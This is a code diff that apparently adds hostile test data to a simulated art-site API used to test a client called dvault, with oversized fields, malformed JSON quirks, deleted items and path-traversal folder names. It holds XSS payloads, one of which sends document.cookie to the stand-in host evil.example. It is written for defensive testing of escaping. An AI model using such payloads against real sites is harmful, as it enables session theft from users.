@@ -32,6 +32,14 @@ export type DatasetOptions = Partial<DatasetSize> & {
    * gallery folder and collection name. Off by default: it changes nothing else in the dataset.
    */
   hostileNames?: boolean;
+  /**
+   * Hostile values on a few of the owner's live gallery deviations (see HOSTILE_DATA and DeviationQuirks):
+   * a 10 000-character title with a 1 MB description and 2 000 tags, script and HTML in a title and a
+   * description, counters as numeric strings, PHP's `[]` for empty objects, unknown extra fields, optional
+   * fields left out, and a deleted deviation, favourite and status. Off by default; it draws no random numbers,
+   * so the rest of the dataset is unchanged.
+   */
+  hostileData?: boolean;
   /** Original sizes in bytes for the owner's downloadable deviations, by index (see downloadableOwnerDeviations). */
   largeFiles?: Array<{ index: number; bytes: number }>;
 };
@@ -93,6 +101,23 @@ export type SimWatch = { userid: string; watch: WatchFlags; lastvisit: string | 
 
 export type SimImage = { width: number; height: number; filesize: number; transparency: boolean; ext: "jpg" | "png" | "gif" };
 
+/**
+ * How the simulator renders one deviation (object and metadata) beyond its values: what the real service
+ * is documented to do (api-notes §6.1, §9: `[]` for `{}`, unknown fields added per minor version, optional
+ * fields absent) and what a hostile test needs on top (counters as numeric strings, as `count` of note
+ * folders and `published_time` already are).
+ */
+export type DeviationQuirks = {
+  /** `stats` counters sent as numeric strings ("favourites": "12"), in the deviation and in its metadata. */
+  statsAsStrings?: boolean;
+  /** PHP's empty array for empty objects: the deviation's `stats: []`, metadata `camera: []` and `submission.submitted_with: []`. */
+  emptyObjectsAsArrays?: boolean;
+  /** Fields no client knows yet, in the deviation and its metadata (objects, arrays, nulls). */
+  extraFields?: boolean;
+  /** Optional fields left out: printid, is_favourited, allows_comments, stats, published_time, download_filesize; metadata license, tags, submission, stats. */
+  omitOptional?: boolean;
+};
+
 export type SimDeviation = {
   deviationid: string;
   numericId: number;
@@ -133,6 +158,8 @@ export type SimDeviation = {
   version: number;
   /** Userids who faved it (the owner's faves are tracked by the collection folders). */
   favedBy: Array<{ userid: string; time: number }>;
+  /** Rendering quirks (dataset.hostileData). */
+  quirks?: DeviationQuirks;
 };
 
 export type SimGalleryFolder = {
@@ -255,6 +282,8 @@ export type Dataset = {
   stash: SimStashItem[];
   /** Counters for ids minted after generation (writes, activity). */
   counters: { numericId: number; messageSeq: number; feedSeq: number };
+  /** What dataset.hostileData changed (absent without it). */
+  hostile?: HostileDataTargets;
 };
 
 type DeepReadonly<T> = T extends (...args: never[]) => unknown
@@ -350,10 +379,16 @@ function applyDownloadExtras(dataset: Dataset, options: DatasetOptions): void {
     if (!Number.isSafeInteger(bytes) || bytes < 1) throw new RangeError(`dataset.largeFiles: bytes must be a positive integer, got ${bytes}`);
     d.image.filesize = bytes;
   }
-  if (!options.hostileNames) return;
+  const renamed = new Set<string>();
+  if (options.hostileNames) applyHostileNames(dataset, downloadable, renamed);
+  if (options.hostileData) applyHostileData(dataset, renamed);
+}
+
+function applyHostileNames(dataset: Dataset, downloadable: SimDeviation[], renamed: Set<string>): void {
   HOSTILE_NAMES.forEach((name, i) => {
     const d = downloadable[downloadable.length - 1 - i];
     if (!d) return;
+    renamed.add(d.deviationid);
     d.title = name.title;
     d.slug = deviationSlug(name.title);
     d.filename = name.filename(d.image?.ext ?? "jpg");
@@ -362,6 +397,89 @@ function applyDownloadExtras(dataset: Dataset, options: DatasetOptions): void {
   const collections = dataset.collectionFolders.filter((f) => f.ownerId === dataset.ownerId);
   if (gallery[1]) gallery[1].name = "../../etc";
   if (collections[1]) collections[1].name = "CON";
+}
+
+/** The script title of dataset.hostileData: escaped wherever dvault shows it. */
+export const HOSTILE_SCRIPT_TITLE = `<script>alert("dvault")</script><img src=x onerror="alert(1)"> Hostile & "quoted"`;
+/** The description that goes with it. */
+export const HOSTILE_SCRIPT_DESCRIPTION = `<script>document.location="https://evil.example/?c="+document.cookie</script><iframe src="javascript:alert(2)"></iframe><b onmouseover="alert(3)">Look</b> &lt;script&gt;`;
+export const OVERSIZED_TITLE_CHARS = 10_000;
+export const OVERSIZED_DESCRIPTION_BYTES = 1_048_576;
+export const OVERSIZED_TAGS = 2_000;
+
+/**
+ * A 1 MiB description (ASCII, so characters = bytes) of distinct words: some 100 000 lexemes, more than a
+ * search index's tsvector holds (1 MiB). Bold every 16 words in its first half; in its second half a bare
+ * `<` (never followed by a `>`) every 4 words; in its last 5 % a `<script` opening every 4 words that never
+ * closes (the search parser skips everything after one, so they come last).
+ */
+export function oversizedDescription(bytes = OVERSIZED_DESCRIPTION_BYTES): string {
+  const parts: string[] = [];
+  let length = 0;
+  for (let i = 0; length < bytes; i++) {
+    const word = `w${i.toString(36)}qz `;
+    const hostile = i % 4 === 0 ? (length > bytes * 0.95 ? "<script " : length > bytes / 2 ? "< " : "") : "";
+    const part = hostile ? hostile + word : length <= bytes / 2 && i % 16 === 1 ? `<b>${word.trim()}</b> ` : word;
+    parts.push(part);
+    length += part.length;
+  }
+  return parts.join("").slice(0, bytes);
+}
+
+/**
+ * Which of the owner's deviations dataset.hostileData changed, by role (ids), for tests. The deviations are
+ * the newest live ones of the owner's galleries that hostileNames left alone.
+ */
+export type HostileDataTargets = {
+  oversized: string;
+  script: string;
+  statsAsStrings: string;
+  emptyArrays: string;
+  omitted: string;
+  deleted: string;
+  deletedFavourite: string | null;
+  deletedStatus: string | null;
+};
+
+function applyHostileData(dataset: Dataset, renamed: ReadonlySet<string>): void {
+  const live: SimDeviation[] = [];
+  for (const f of dataset.galleryFolders) {
+    if (f.ownerId !== dataset.ownerId) continue;
+    for (const id of f.deviationIds) {
+      const d = dataset.deviations.get(id);
+      if (d && !d.isDeleted && !renamed.has(id) && !live.includes(d)) live.push(d);
+    }
+  }
+  live.sort((a, b) => b.publishedTime - a.publishedTime || b.numericId - a.numericId);
+  if (live.length < 6) throw new RangeError(`dataset.hostileData needs 6 live owner deviations beyond the hostile names, there are ${live.length}`);
+  const [oversized, script, strings, arrays, omitted, deleted] = live as [SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation];
+  oversized.title = "Tall tale ".repeat(OVERSIZED_TITLE_CHARS / 10);
+  oversized.slug = deviationSlug(oversized.title);
+  oversized.description = oversizedDescription();
+  oversized.tags = Array.from({ length: OVERSIZED_TAGS }, (_, i) => `tag${i.toString(36).padStart(3, "0")}`);
+  oversized.quirks = { extraFields: true };
+  script.title = HOSTILE_SCRIPT_TITLE;
+  script.slug = deviationSlug(script.title);
+  script.description = HOSTILE_SCRIPT_DESCRIPTION;
+  script.quirks = { statsAsStrings: true, extraFields: true };
+  strings.quirks = { statsAsStrings: true };
+  arrays.quirks = { emptyObjectsAsArrays: true };
+  omitted.quirks = { omitOptional: true };
+  deleted.isDeleted = true;
+  const fave = dataset.collectionFolders.find((f) => f.ownerId === dataset.ownerId)?.deviationIds.map((id) => dataset.deviations.get(id)).find((d) => d && !d.isDeleted);
+  if (fave) fave.isDeleted = true;
+  const status = dataset.statuses.find((s) => s.authorId === dataset.ownerId && !s.isDeleted);
+  if (status) status.isDeleted = true;
+  dataset.hostile = {
+    oversized: oversized.deviationid,
+    script: script.deviationid,
+    statsAsStrings: strings.deviationid,
+    emptyArrays: arrays.deviationid,
+    omitted: omitted.deviationid,
+    deleted: deleted.deviationid,
+    deletedFavourite: fave?.deviationid ?? null,
+    deletedStatus: status?.statusid ?? null,
+  };
 }
 
 export function newNumericIdStart(): number {
@@ -518,7 +636,7 @@ function uniqueName(rng: Rng, taken: Set<string>): string {
 }
 
 export function generateDataset(seed: number, options: DatasetOptions, start: Date): Dataset {
-  const { hostileNames: _hostile, largeFiles: _large, ...sizeOverrides } = options;
+  const { hostileNames: _hostile, hostileData: _hostileData, largeFiles: _large, ...sizeOverrides } = options;
   const size: DatasetSize = { ...DEFAULT_DATASET_SIZE, ...sizeOverrides };
   const rng = createRng(seed);
   const startMs = start.getTime();
